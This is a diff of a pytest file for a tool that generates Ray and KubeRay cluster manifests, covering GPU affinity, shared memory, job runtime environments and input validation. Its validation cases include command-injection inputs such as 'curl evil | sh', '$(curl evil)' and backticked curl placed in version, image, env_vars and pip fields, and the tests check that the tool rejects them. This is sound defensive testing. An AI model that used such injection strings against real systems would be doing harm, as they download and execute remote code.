@@ -2,8 +2,10 @@
 
 import pytest
 import yaml
+from hypothesis import given
+from hypothesis import strategies as st
 
-from tests.unit.planned_clusters import TRIALS, a_plan, gpu_type
+from tests.unit.planned_clusters import TRIALS, a_plan, filled_in, gpu_type
 from tune_policies import InvalidResourcesError
 from tune_policies.accelerator_families import FAMILIES
 from tune_policies.clusters.catalog import NodeType, Toleration
@@ -40,10 +42,15 @@ EXPECTED = """\
 # Written by tune-policies: a Ray cluster for 12 trials.
 # 12 trials at once need 3 nodes.
 # Pods ask for all that the plan counts on a node: the machines must have some more, for Kubernetes itself.
+# Pods without GPUs keep off nodes with GPUs, or they would take the room of workers there: where all your nodes have
+#   GPUs, take the affinity out.
 # Nodes with GPUs are selected by the labels of platform 'gke': on another, name that one.
+# Lines behind # are room for what no plan knows: fill in what you need, in each group.
 apiVersion: ray.io/v1
 kind: RayCluster
 metadata:
+  # labels: {kueue.x-k8s.io/queue-name: trials}
+  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # or Kueue takes no cluster with an autoscaler
   name: tune
 spec:
   rayVersion: "2.60.0"
@@ -55,14 +62,29 @@ spec:
     rayStartParams:
       num-cpus: "0"
     template:
+      metadata:
+        annotations:
+          cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
+          karpenter.sh/do-not-disrupt: "true"
       spec:
+        # serviceAccountName: tune  # one that there is, and that may read the data and write the results
+        # priorityClassName: batch
         restartPolicy: Never
+        affinity:
+          nodeAffinity:
+            requiredDuringSchedulingIgnoredDuringExecution:
+              nodeSelectorTerms:
+              - matchExpressions:
+                - key: cloud.google.com/gke-accelerator
+                  operator: DoesNotExist
+        # imagePullSecrets: [{name: registry}]
         containers:
         - name: ray-head
           image: rayproject/ray:2.60.0
           env:
           - name: NVIDIA_VISIBLE_DEVICES
             value: void
+          # envFrom: [{secretRef: {name: tune-secrets}}]
           resources:
             limits:
               cpu: "2"
@@ -70,6 +92,17 @@ spec:
             requests:
               cpu: "2"
               memory: "8Gi"
+              ephemeral-storage: "10Gi"
+          volumeMounts:
+          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs; with a bucket there is no need
+          - name: shared-memory
+            mountPath: /dev/shm
+        volumes:
+        # - {name: results, persistentVolumeClaim: {claimName: tune-results}}  # ReadWriteMany
+        - name: shared-memory
+          emptyDir:
+            medium: Memory
+            sizeLimit: "8Gi"
   workerGroupSpecs:
   - groupName: l4
     replicas: 0
@@ -81,7 +114,13 @@ spec:
       accelerator_type:L4: "1"
     rayStartParams: {}
     template:
+      metadata:
+        annotations:
+          cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
+          karpenter.sh/do-not-disrupt: "true"
       spec:
+        # serviceAccountName: tune  # one that there is, and that may read the data and write the results
+        # priorityClassName: batch
         restartPolicy: Never
         nodeSelector:
           cloud.google.com/gke-accelerator: nvidia-l4
@@ -89,9 +128,11 @@ spec:
         - key: nvidia.com/gpu
           operator: Exists
           effect: NoSchedule
+        # imagePullSecrets: [{name: registry}]
         containers:
         - name: ray-worker
           image: rayproject/ray:2.60.0-gpu
+          # envFrom: [{secretRef: {name: tune-secrets}}]
           resources:
             limits:
               cpu: "8"
@@ -101,6 +142,17 @@ spec:
               cpu: "8"
               memory: "32Gi"
               nvidia.com/gpu: "1"
+              ephemeral-storage: "10Gi"
+          volumeMounts:
+          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs; with a bucket there is no need
+          - name: shared-memory
+            mountPath: /dev/shm
+        volumes:
+        # - {name: results, persistentVolumeClaim: {claimName: tune-results}}  # ReadWriteMany
+        - name: shared-memory
+          emptyDir:
+            medium: Memory
+            sizeLimit: "32Gi"
 """
 
 
@@ -118,26 +170,129 @@ def test_reasons_of_any_text_stay_comments():
 
 
 def test_a_job_starts_the_cluster_and_ends_it():
-    job = spec(a_plan(), job="python train.py")
+    job = spec(a_plan(), job="python train.py", image="me/tune:1")
 
     assert (job["entrypoint"], job["shutdownAfterJobFinishes"]) == ("python train.py", True)
-    assert job["rayClusterSpec"] == spec(a_plan())
+    assert job["rayClusterSpec"] == spec(a_plan(), image="me/tune:1")
+    assert "runtimeEnvYAML" not in job
+
+
+@pytest.mark.parametrize("job", [None, "python train.py"])
+def test_who_starts_a_job_is_told_to_keep_its_results_elsewhere(job):
+    text = write_cluster(a_plan(), WriteOptions(job=job, image="me/ray:1"))
+
+    assert ("# Nodes and their files go when the job has ended" in text) == (job is not None)
+
+
+def test_a_job_brings_its_code_and_packages_by_its_runtime_environment():
+    environment = {"working_dir": "s3://bucket/code.zip", "pip": ["tune-policies", "torch==2.13.0"]}
+
+    job = spec(a_plan(), job="python train.py", runtime_env=environment)
+
+    assert yaml.safe_load(job["runtimeEnvYAML"]) == environment
+
+
+def test_a_manifest_names_its_namespace_where_one_is_given():
+    written = [
+        yaml.safe_load(write_cluster(a_plan(), WriteOptions(namespace=namespace)))["metadata"]
+        for namespace in (None, "ml")
+    ]
+
+    assert written == [{"name": "tune"}, {"name": "tune", "namespace": "ml"}]
 
 
 VOID = [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"}]
+INTEL = gpu_type(name="intel", accelerator_type="Intel-GPU-Max-1550")
 
 
 @pytest.mark.parametrize(
-    ("node_type", "variables"),
-    [(cpu_type(), VOID), (gpu_type(accelerator_type="Intel-GPU-Max-1550"), VOID), (gpu_type(), None)],
-    ids=[
-        "without GPUs it sees none",
-        "of another vendor it sees none of NVIDIA's",
-        "else the device plugin says which",
+    ("node_types", "variables"),
+    [
+        ([cpu_type(), gpu_type()], [VOID, VOID, None]),
+        ([INTEL, gpu_type()], [VOID, VOID, None]),
+        ([cpu_type(), INTEL], [None, None, None]),
+        ([gpu_type(device_key="nvidia.com/mig-1g.10gb")], [VOID, None]),
+    ],
+    ids=["beside NVIDIA's GPUs", "of another vendor beside them", "where there are none", "beside parts of them"],
+)
+def test_pods_without_nvidias_gpus_are_shown_none_of_them(node_types, variables):
+    written = spec(a_plan(*node_types))
+
+    groups = [written["headGroupSpec"], *written["workerGroupSpecs"]]
+    assert [each["template"]["spec"]["containers"][0].get("env") for each in groups] == variables
+
+
+@pytest.mark.parametrize(
+    ("platform", "label"),
+    [
+        ("gke", "cloud.google.com/gke-accelerator"),
+        ("karpenter", "karpenter.k8s.aws/instance-gpu-name"),
+        ("gpu-operator", "nvidia.com/gpu.present"),
     ],
 )
-def test_which_gpus_a_pod_sees(node_type, variables):
-    assert pod(node_type)["containers"][0].get("env") == variables
+@pytest.mark.parametrize("form", ["kuberay", "kuberay-helm"])
+def test_the_head_and_pods_without_devices_keep_off_nodes_with_gpus(form, platform, label):
+    plan = a_plan(cpu_type(), gpu_type(), cpu_type(name="mine", node_selector={"pool": "a"}))
+    written = yaml.safe_load(write_cluster(plan, WriteOptions(format=form, platform=platform)))
+
+    if form == "kuberay":
+        groups = [written["spec"]["headGroupSpec"], *written["spec"]["workerGroupSpecs"]]
+        found = [each["template"]["spec"].get("affinity") for each in groups]
+    else:
+        found = [each.get("affinity") for each in (written["head"], *written["additionalWorkerGroups"].values())]
+    terms = {"nodeSelectorTerms": [{"matchExpressions": [{"key": label, "operator": "DoesNotExist"}]}]}
+    off = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": terms}}
+    assert found == [off, off, None, None]
+
+
+@pytest.mark.parametrize(
+    ("node_type", "platform"), [(cpu_type(), "gke"), (gpu_type(), None)], ids=["no GPUs", "labels of nobody"]
+)
+def test_without_known_gpu_nodes_the_head_runs_anywhere(node_type, platform):
+    assert "affinity" not in spec(a_plan(node_type), platform=platform)["headGroupSpec"]["template"]["spec"]
+
+
+def test_pods_have_shared_memory_for_data_loaders_as_large_as_their_memory():
+    written = pod(gpu_type(memory_bytes=3 * 2**30))
+
+    assert written["containers"][0]["volumeMounts"] == [{"name": "shared-memory", "mountPath": "/dev/shm"}]
+    assert written["volumes"] == [{"name": "shared-memory", "emptyDir": {"medium": "Memory", "sizeLimit": "3Gi"}}]
+
+
+def test_no_autoscaler_of_nodes_moves_a_pod():
+    annotations = group(gpu_type())["template"]["metadata"]["annotations"]
+
+    assert annotations == {
+        "cluster-autoscaler.kubernetes.io/safe-to-evict": "false",
+        "karpenter.sh/do-not-disrupt": "true",
+    }
+
+
+@given(st.text() | st.text(alphabet="a \n\t\r#:-'\"\u2028\x85"))
+def test_any_command_is_read_as_it_was_given(command):
+    if command:
+        assert spec(a_plan(), job=command, image="me/ray:1")["entrypoint"] == command
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_room_to_fill_in_stands_as_comments_that_are_yaml(form):
+    text = write_cluster(a_plan(), WriteOptions(format=form))
+
+    filled = filled_in(text)
+
+    named = {
+        "kuberay": ("queue-name", "serviceAccountName", "priorityClassName", "secretRef", "claimName", "registry"),
+        "kuberay-helm": ("serviceAccountName", "priorityClassName", "secretRef", "claimName", "registry"),
+        "cluster-yaml": ("requirements.txt", "file_mounts"),
+    }
+    assert all(name not in str(yaml.safe_load(text)) for name in named[form])
+    assert all(name in str(yaml.safe_load(filled)) for name in named[form])
+
+
+def test_room_stands_in_the_first_group_alone():
+    text = write_cluster(a_plan(cpu_type(), gpu_type()))
+
+    assert text.count("# serviceAccountName") == 2  # with that of the head
 
 
 @pytest.mark.parametrize(
@@ -187,7 +342,16 @@ def test_ray_is_told_what_it_does_not_read_from_the_limits(fields, key, told):
 
     assert written.get("resources") == told
     assert key in resources["limits"]
-    assert resources["limits"] == resources["requests"]
+    assert resources["requests"] == resources["limits"] | {"ephemeral-storage": "10Gi"}
+
+
+@pytest.mark.parametrize(("version", "has_label"), [("2.44.1", False), ("2.45.0", True)])
+def test_a_ray_that_would_not_start_with_labels_is_told_no_device_type_by_one(version, has_label):
+    """KubeRay passes them on as text; Ray 2.44 takes JSON only. The autoscaler has the type as a resource, too."""
+    written = group(gpu_type(), ray_version=version)
+
+    assert ("labels" in written) == has_label
+    assert "accelerator_type:L4" in written["rayStartParams"]["resources"]
 
 
 def test_an_older_ray_is_told_by_start_parameters():
@@ -272,7 +436,11 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
 @pytest.mark.parametrize(
     ("plan", "options", "says"),
     [
-        (a_plan(name="t" * 48), {"job": "python x.py"}, "48 characters, and a RayJob's may have 47"),
+        (
+            a_plan(name="t" * 48),
+            {"job": "python x.py", "image": "me/ray:1"},
+            "48 characters, and a RayJob's may have 47",
+        ),
         (a_plan(gpu_type(name="headgroup")), {}, "'headgroup' comes twice"),
         (a_plan(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' comes twice"),
         (a_plan(NO_KEY), {}, "name the key of your cluster as device_key"),
@@ -287,6 +455,11 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
         ),
         (a_plan(cpu_type(custom={"vgpu": 2})), {}, "would take the resource 'vgpu' for Ray's own"),
         (a_plan(trials=TRIALS.on_nodes({"zone": "eu"})), {"format": "kuberay-helm"}, "chart has no place for Ray's"),
+        (
+            a_plan(gpu_type(labels={"zone": "eu"})),
+            {"ray_version": "2.44.1"},
+            "take Ray 2.45 or newer, or take the labels",
+        ),
         (a_plan(TPU_V7), {"ray_version": "2.50.0"}, "ends at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
         (a_plan(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "take Ray 2.51 or newer"),
     ],
@@ -310,9 +483,24 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
 @pytest.mark.parametrize(
     ("fields", "says"),
     [
-        ({"ray_version": "latest"}, "ray_version must be a version such as 2.60.0"),
+        ({"ray_version": "latest"}, "ray_version must be a version in full, such as 2.60.0"),
+        ({"ray_version": "2.60"}, "in full"),
+        ({"ray_version": "2.60.0\n"}, "in full"),
+        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "in full"),
+        ({"ray_version": "\uff12.60.0"}, "in full"),
         ({"format": "cluster-yaml", "job": "python x.py"}, "a job is written as format 'kuberay' only"),
+        ({"format": "kuberay-helm", "namespace": "ml"}, r"helm install --namespace"),
+        ({"format": "cluster-yaml", "namespace": "ml"}, "a namespace is written as format 'kuberay' only"),
+        ({"namespace": "Ml\n"}, "namespace 'Ml.n' must have small letters"),
+        ({"job": "python x.py"}, "name an image that has both, or a runtime environment"),
+        ({"runtime_env": {"pip": ["torch"]}}, "a runtime environment is a job's"),
+        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which is not on the cluster: pack it"),
+        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which is not on the cluster"),
+        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell would run"),
+        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell would run"),
         ({"image": ""}, "image"),
+        ({"image": "me/ray:1; curl evil | sh"}, "no name of a container image"),
+        ({"image": "me/ray:1\n"}, "no name of a container image"),
         ({"platform": "aks"}, "platform"),
     ],
 )
@@ -339,7 +527,7 @@ def test_the_launcher_installs_the_same_ray_or_runs_the_image():
     def config(**options):
         return yaml.safe_load(write_cluster(a_plan(), WriteOptions(format="cluster-yaml", **options)))
 
-    assert config(ray_version="2.55.0")["setup_commands"] == ['pip install "ray[default,tune,train]==2.55.0"']
+    assert config(ray_version="2.55.0")["setup_commands"] == ["pip install 'ray[default,tune,train]==2.55.0'"]
     assert config(image="me/ray:1")["docker"] == {"image": "me/ray:1", "container_name": "ray_container"}
 
 
